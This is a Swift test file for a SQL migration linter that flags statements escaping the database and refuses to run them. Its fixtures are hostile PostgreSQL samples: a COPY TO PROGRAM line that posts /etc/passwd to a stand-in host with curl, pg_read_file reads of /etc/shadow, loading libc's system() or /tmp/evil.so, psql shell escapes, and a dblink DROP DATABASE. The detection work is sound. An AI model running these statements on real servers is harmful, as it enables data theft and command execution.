import Testing
@testable import SchemaJobKit
import SQLSyntax

/// Lint's rules for statements that reach outside the database, and psql meta-commands
/// wherever psql would read one. Each case is written as a pull request might write it.
@Suite struct EscapeRulesTests {
    /// (SQL, the rule it must draw, the line it is on).
    static let escapes: [(sql: String, rule: String, line: Int)] = [
        ("SELECT 1; \\! touch /tmp/pwned\n", "psql-meta-command", 1),
        ("CREATE TABLE IF NOT EXISTS t (id int);\nSELECT 'hello' \\o /tmp/out.txt\n", "psql-meta-command", 2),
        ("SELECT now() \\g /tmp/out.txt\n", "psql-meta-command", 1),
        ("SELECT 1 \\g |sh -c 'id > /tmp/x'\n", "psql-meta-command", 1),
        ("SELECT format('DROP TABLE %I', relname) FROM pg_class \\gexec\n", "psql-meta-command", 1),
        ("\\set who `whoami`\n", "psql-meta-command", 1),
        ("\\copy (SELECT 1) TO '/tmp/copied'\n", "psql-meta-command", 1),
        ("SELECT 5 \\; SELECT 6;\n", "psql-meta-command", 1),
        ("COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd example.com';\n", "copy-program", 1),
        ("CREATE TABLE IF NOT EXISTS l (line text);\ncopy l from program 'cat /etc/hostname';\n", "copy-program", 2),
        ("COPY (SELECT 1) TO '/var/lib/postgresql/x';\n", "copy-server-file", 1),
        ("COPY l FROM E'/etc/passwd';\n", "copy-server-file", 1),
        ("COPY l (line) FROM STDIN;\n", "copy-from-stdin", 1),
        ("SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/lo');\n", "large-object-file", 1),
        ("SELECT pg_catalog.lo_import('/etc/passwd');\n", "large-object-file", 1),
        ("SELECT pg_read_file('/etc/passwd');\n", "server-file-function", 1),
        ("SELECT * FROM pg_ls_dir('.');\n", "server-file-function", 1),
        ("SELECT (pg_stat_file('postgresql.conf')).size;\n", "server-file-function", 1),
        ("SELECT \"pg_read_binary_file\"('/etc/shadow');\n", "server-file-function", 1),
        ("CREATE EXTENSION IF NOT EXISTS file_fdw;\n", "server-file-function", 1),
        ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$;\n", "untrusted-language", 1),
        ("CREATE FUNCTION sh(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C;\n", "untrusted-language", 1),
        ("DO LANGUAGE plperlu $$ system('id') $$;\n", "untrusted-language", 1),
        ("CREATE EXTENSION IF NOT EXISTS pltclu;\n", "untrusted-language", 1),
        ("CREATE TRUSTED LANGUAGE plsh HANDLER h;\n", "untrusted-language", 1),
        ("LOAD '/tmp/evil.so';\n", "untrusted-language", 1),
        ("ALTER SYSTEM SET archive_command = 'curl example.com';\n", "alter-system", 1),
        ("CREATE EXTENSION IF NOT EXISTS dblink;\n", "remote-connection", 1),
        ("SELECT dblink_exec('host=10.0.0.1 user=postgres', 'DROP DATABASE prod');\n", "remote-connection", 1),
        ("CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db');\n", "remote-connection", 1),
        ("CREATE USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (user 'postgres');\n", "remote-connection", 1),
        ("SET ROLE postgres;\n", "set-role", 1),
        ("SET SESSION AUTHORIZATION postgres;\n", "set-role", 1),
        ("SELECT set_config('role', 'postgres', false);\n", "set-role", 1),
        ("RESET ALL;\n", "reset-all", 1),
        ("SET standard_conforming_strings = off;\n", "standard-conforming-strings", 1),
        // Inside bodies: a DO block, a function's dollar body, a function body in a string,
        // and the string a DO block hands to EXECUTE.
        ("DO $$\nBEGIN\n    COPY (SELECT 1) TO PROGRAM 'id';\nEND $$;\n", "copy-program", 3),
        // A function's body, dollar-quoted or a string, only stores what it holds: the
        // migration escapes when it then calls the function, and is refused at the call.
        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS $$\n  SELECT pg_read_file('/etc/passwd')\n$$;\nSELECT leak();\n", "server-file-function", 4),
        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')';\nSELECT public.leak();\n", "server-file-function", 2),
        ("DO $$\nBEGIN\n  EXECUTE 'COPY (SELECT 1) TO ''/tmp/x''';\nEND $$;\n", "copy-server-file", 3),
        ("DO $$ BEGIN IF true THEN SET ROLE postgres; END IF; END $$;\n", "set-role", 1),
        // Strings handed to EXECUTE with no `(` in them: their first words are what is read.
        ("DO $$\nBEGIN\n  EXECUTE 'LOAD ''/tmp/evil.so''';\nEND $$;\n", "untrusted-language", 3),
        ("DO $$\nBEGIN\n  EXECUTE 'set role postgres';\nEND $$;\n", "set-role", 3),
        ("DO $$\nBEGIN\n  EXECUTE E'RESET ALL';\nEND $$;\n", "reset-all", 3),
        ("DO $$\nBEGIN\n  EXECUTE 'SELECT 1; Alter System Set work_mem = 1';\nEND $$;\n", "alter-system", 3),
    ]

    /// Strings inside bodies are read as SQL only when they could hold what the rules look
    /// for: a word a watched statement starts with, or a call.
    @Test func aStringWithoutAStatementWordOrACallIsNotLexed() {
        for text in ["done", " closed at ", "s001_t0_status_check", "pending, active", "eu-west-1", "", "setting", "dose", "Undo it"] {
            #expect(!EscapeRules.mayHoldStatement(text), "\(text.debugDescription)")
        }
        for text in ["now()", "SET ROLE x", "x;load 'y'", "a\tDO", "COPY", "café", "reset", "import foreign schema", "discard all", "1CREATE"] {
            #expect(EscapeRules.mayHoldStatement(text), "\(text.debugDescription)")
        }
        #expect(EscapeRules.decodedString("'it''s'") == "it's")
    }

    /// Without the calls (the analysis' first pass), a body or string is lexed only when
    /// it could draw a finding: a statement word, a watched function's name, a quoted name.
    @Test func aBodyWithoutAnEscapeWordIsNotLexedWhenNoCallIsWanted() {
        let cleared = [
            "$$\nBEGIN\n    NEW.updated_at = NOW();\n    RETURN NEW;\nEND;\n$$",
            "$$ SELECT read_settings() $$", "$body$ SELECT x_pg FROM t WHERE logo_id = 1 $body$",
            "$$ SELECT dblin(1), blink(2), apg_x, slo_y $$", "", "setting", "undo",
        ]
        for text in cleared {
            #expect(!EscapeRules.mayHoldEscape(text), "\(text.debugDescription)")
        }
        let held = [
            "$$ SELECT pg_read_file('x') $$", "PG_LS_DIR(", "select lo_import('f')", "dblink_exec('x')", "PERFORM dblink('a')",
            "$$ SELECT \"pg_read_file\"('x') $$", "café", "LOAD 'x'", "1pg_read_file('x')", "SeT_CoNfIg('role', 'x', false)",
            "$do$ x $do$", "x;copy t to program 'id'", "Lo_Export(1, 'f')", "dblinks",
        ]
        for text in held {
            #expect(EscapeRules.mayHoldEscape(text), "\(text.debugDescription)")
        }
    }

    /// The first pass leaves the calls out and skips the bodies `mayHoldEscape` clears; it
    /// must draw the same findings, and the same escapes per routine, as the full reading.
    @Test(arguments: LintCorpusTests.goodCases + LintCorpusTests.badCases + LintCorpusTests.storedCases)
    func readingWithoutTheCallsDrawsTheSameFindings(_ name: String) throws {
        let text = try String(contentsOf: LintCorpusTests.corpus.appendingPathComponent(name), encoding: .utf8)
        let file = CheckFixtures.schema("001_test.sql", text)
        let tokens = SQLLexer.tokens(in: text)
        let statements = SQLLexer.statements(from: tokens)
        let full = StatementRules.check(file, tokens: tokens, statements: statements, tracksCalls: true)
        let first = StatementRules.check(file, tokens: tokens, statements: statements, tracksCalls: false)
        #expect(first.findings.map(FindingFormat.textLine) == full.findings.map(FindingFormat.textLine))
        #expect(first.storedRoutines.map(\.name) == full.storedRoutines.map(\.name))
        #expect(first.storedRoutines.map { $0.escapes.map(FindingFormat.textLine) } == full.storedRoutines.map { $0.escapes.map(FindingFormat.textLine) })
        #expect(first.calls.isEmpty)
        #expect(EscapeRules.decodedString("E'a''''b'") == "a''b")
        #expect(EscapeRules.decodedString("'ok'") == "ok")
        #expect(EscapeRules.decodedString("X'1F'") == nil)
    }

    @Test(arguments: 0..<escapes.count)
    func eachEscapeIsAnErrorOnItsLine(_ index: Int) {
        let (sql, rule, line) = Self.escapes[index]
        let findings = CheckFixtures.lint(sql).filter { $0.rule.id == rule }
        #expect(findings.count >= 1, "\(sql.debugDescription): \(CheckFixtures.lint(sql).map(FindingFormat.textLine))")
        #expect(findings.first?.location.line == line, "\(sql.debugDescription)")
        #expect(findings.allSatisfy { $0.isError })
    }

    @Test(arguments: 0..<escapes.count)
    func runSafetyRefusesWhatLintFinds(_ index: Int) {
        let (sql, rule, _) = Self.escapes[index]
        let set = MigrationSet(directory: "database", files: [CheckFixtures.schema("001_test.sql", sql)])
        #expect(RunSafety.refusals(set).contains { $0.rule.id == rule }, "\(sql.debugDescription)")
        #expect {
            try RunSafety.requireNone(RunSafety.refusals(set))
        } throws: { error in
            (error as? InputError)?.location == RunSafety.refusals(set).first?.location
        }
    }

    @Test func noAllowCommentSilencesAnEscape() {
        let findings = CheckFixtures.lint("-- schemajob:allow copy-program, psql-meta-command\nCOPY (SELECT 1) TO PROGRAM 'id'; \\! id\n")
        #expect(Set(findings.map(\.rule.id)).isSuperset(of: ["copy-program", "psql-meta-command", "unknown-allow"]), "\(findings.map(FindingFormat.textLine))")
        #expect(LintRule.all.filter { $0.family == .escape }.allSatisfy { !$0.canBeAllowed })
    }

    @Test func aMidLineMetaCommandIsReportedAtItsColumn() {
        let finding = CheckFixtures.lint("SELECT 1;   \\! echo pwned\n").first { $0.rule.id == "psql-meta-command" }
        #expect(finding?.location == SourceLocation(path: "database/schema/001_test.sql", line: 1, column: 13))
        #expect(finding?.message.contains("\\!") == true)
    }

    /// What looks like an escape but is text: none of it is a finding.
    @Test func backslashesAndEscapeWordsInsideTextAreNotFindings() {
        let harmless = """
            CREATE TABLE IF NOT EXISTS notes (body text, "copy\\path" text);
            -- a comment with \\! rm -rf / and COPY x TO PROGRAM 'id'
            /* a block comment \\o /tmp/x /* nested \\g */ still */
            INSERT INTO notes (body) VALUES ('C:\\temp\\new'), (E'tab\\there \\\\ and \\' quote'), ($$ \\! not a command $$), ($tag$ \\gexec $tag$)
            ON CONFLICT DO NOTHING;
            SELECT E'first'
                '\\' still the string \\! here';
            COMMENT ON TABLE notes IS 'export with lo_export later';
            SELECT 'pg_read_file(''/etc/passwd'')' AS text_only;

            """
        let findings = CheckFixtures.lint(harmless).filter { $0.isError }
        #expect(findings.isEmpty, "\(findings.map(FindingFormat.textLine))")
    }

    @Test func anEStringContinuedOnTheNextLineKeepsItsEscapes() {
        // scan.l: E'a' then a newline then '\'' is one constant whose value is a'.
        let tokens = SQLLexer.tokens(in: "SELECT E'a'\n  -- note\n  '\\'' AS x;").filter { !$0.isTrivia }
        #expect(tokens.map(\.kind) == [.word, .string, .word, .word, .punctuation])
        #expect(tokens[1].isTerminated)
        #expect(CheckFixtures.lint("SELECT E'a'\n'\\'' AS x;\n").isEmpty)
        // Without a newline between them they are two constants, as PostgreSQL reads them.
        #expect(SQLLexer.tokens(in: "SELECT E'a' '\\'' AS x;").filter { $0.kind == .string }.count == 2)
    }

    // MARK: Stored code

    /// What a body only stores: a warning at the body's line that names the routine, and
    /// no refusal.
    static let storedOnly: [(sql: String, rule: String, line: Int, routine: String)] = [
        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS $$\n  SELECT pg_read_file('/etc/passwd')\n$$;\n", "server-file-function", 2, "function leak"),
        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')';\n", "server-file-function", 1, "function leak"),
        ("CREATE OR REPLACE PROCEDURE ops.job() LANGUAGE plpgsql AS $p$\nBEGIN\n  BEGIN\n    LOAD 'auto_explain';\n  EXCEPTION WHEN OTHERS THEN NULL;\n  END;\nEND\n$p$;\n", "untrusted-language", 4, "procedure ops.job"),
        ("CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'id'; END $$;\n", "copy-program", 1, "function f"),
        ("CREATE OR REPLACE FUNCTION f() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd');\n", "server-file-function", 1, "function f"),
        ("CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SELECT lo_import(''/etc/passwd'')'; END $$;\n", "large-object-file", 1, "function f"),
    ]

    @Test(arguments: 0..<storedOnly.count)
    func whatABodyOnlyStoresIsAWarningNamingWhereItWouldRun(_ index: Int) {
        let (sql, rule, line, routine) = Self.storedOnly[index]
        let findings = CheckFixtures.lint(sql)
        let stored = findings.filter { $0.rule.id == "stored-escape" }
        #expect(stored.count == 1, "\(sql.debugDescription): \(findings.map(FindingFormat.textLine))")
        #expect(stored.first?.location.line == line)
        #expect(stored.first?.isError == false)
        #expect(stored.first?.message.contains("[\(rule)], stored in the body of \(routine): it runs when that is called") == true,
                "\(stored.first?.message ?? "")")
        #expect(!findings.contains { $0.isError }, "\(findings.map(FindingFormat.textLine))")
        let set = MigrationSet(directory: "database", files: [CheckFixtures.schema("001_test.sql", sql)])
        #expect(RunSafety.refusals(set).isEmpty)
    }

    @Test func aDollarQuotedLiteralOutsideABodyIsAWarningToo() {
        let findings = CheckFixtures.lint("COMMENT ON SCHEMA public IS $c$ run SELECT pg_read_file('x') to see $c$;\n")
        #expect(findings.map(\.rule.id) == ["stored-escape"], "\(findings.map(FindingFormat.textLine))")
        #expect(findings.first?.message.contains("inside a string literal") == true)
    }

    /// A C function's library is loaded as the function is created: still refused.
    @Test func creatingAFunctionInAnUntrustedLanguageIsStillRefused() {
        let set = MigrationSet(directory: "database", files: [CheckFixtures.schema(
            "001_test.sql", "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; os.system('id') $$;\n")])
        #expect(RunSafety.refusals(set).map(\.rule.id) == ["untrusted-language"])
    }

    /// The run calls what a body stores: refused at the call, naming the body's line,
    /// however the call is written and in whichever file of the set.
    static let calls: [(call: String, line: Int)] = [
        ("SELECT ops.job_step();\n", 1),
        ("CALL ops.maintain();\n", 1),
        ("DO $$\nBEGIN\n  PERFORM job_step();\nEND $$;\n", 3),
        ("DO $$ BEGIN EXECUTE 'CALL maintain()'; END $$;\n", 1),
        ("CREATE TABLE IF NOT EXISTS t (id int);\nDROP TRIGGER IF EXISTS t_step ON t;\nCREATE TRIGGER t_step AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION ops.job_step();\n", 3),
        ("SELECT \"job_step\"() FROM generate_series(1, 2);\n", 1),
    ]

    @Test(arguments: 0..<calls.count)
    func aCallOfStoredCodeThatEscapesIsRefusedAtTheCall(_ index: Int) throws {
        let (call, line) = Self.calls[index]
        let stored = """
            CREATE OR REPLACE PROCEDURE ops.maintain() LANGUAGE plpgsql AS $p$
            BEGIN
              BEGIN
                LOAD 'auto_explain';
              EXCEPTION WHEN OTHERS THEN NULL;
              END;
            END
            $p$;
            CREATE OR REPLACE FUNCTION ops.job_step() RETURNS trigger LANGUAGE plpgsql AS $f$
            BEGIN
              CALL ops.maintain();
              RETURN NULL;
            END
            $f$;

            """
        let set = MigrationSet(directory: "database", files: [
            CheckFixtures.schema("001_stored.sql", stored), CheckFixtures.schema("002_calls.sql", call),
        ])
        let refusals = RunSafety.refusals(set)
        #expect(refusals.count == 1, "\(call.debugDescription): \(refusals.map(FindingFormat.textLine))")
        let refusal = try #require(refusals.first)
        #expect(refusal.rule.id == "untrusted-language")
        #expect(refusal.location.path.hasSuffix("002_calls.sql") && refusal.location.line == line)
        #expect(refusal.message.contains("001_stored.sql:4: LOAD loads a shared library"), "\(refusal.message)")
        #expect(Linter.lint(set).contains { $0.isError && $0.location == refusal.location })
        #expect { try RunSafety.requireNone(refusals) } throws: { error in
            (error as? InputError)?.location == refusal.location
        }
    }
}
